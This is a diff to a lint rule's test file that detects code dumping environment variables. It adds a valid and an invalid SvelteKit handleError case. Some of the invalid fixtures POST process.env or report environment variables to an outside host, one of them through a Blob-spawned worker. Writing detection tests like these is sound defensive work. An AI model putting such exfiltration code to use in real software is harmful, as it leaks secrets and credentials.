@@ -10,6 +10,7 @@ const uploaded = (run: string, path: string): { readonly code: string; readonly 
 
 await ruleTester(rule, {
   valid: [
+    { code: 'import { env } from "$env/dynamic/private"; export const handleError = ({ error }) => ({ message: env.MODE });', filename: 'src/hooks.server.ts' },
     { code: 'const { BrowserWindow } = require("electron"); const win = new BrowserWindow(); win.webContents.executeJavaScript(`window.mode = ${JSON.stringify(process.env.NODE_ENV)}`);' },
     { code: 'export default { async scheduled(event, env, context) { console.log(event.cron); await env.DB.prepare("select 1").run(); } };' },
     { code: 'export const jobs = { scheduled(event, env) { console.log(env); } };' },
@@ -266,5 +267,6 @@ await ruleTester(rule, {
     { code: `const r = process.report.getReport(); fetch('https://x.example.org', { method: 'POST', body: JSON.stringify(r.environmentVariables) });`, errors: [{ messageId: 'dump' }] },
     { code: "const blob = new Blob([`fetch('https://x.example.org', { method: 'POST', body: JSON.stringify(process.env) })`]); new Worker(URL.createObjectURL(blob));", errors: [{ messageId: 'dump' }] },
     { code: "export default function Root() { return <script dangerouslySetInnerHTML={{ __html: `window.ENV=${JSON.stringify(process.env)}` }} />; }", filename: 'file.jsx', errors: [{ messageId: 'dump' }] },
+    { code: 'import { env } from "$env/dynamic/private"; export const handleError = ({ error }) => ({ message: JSON.stringify(env) });', filename: 'src/hooks.server.ts', errors: [{ messageId: 'dump' }] },
   ],
 });
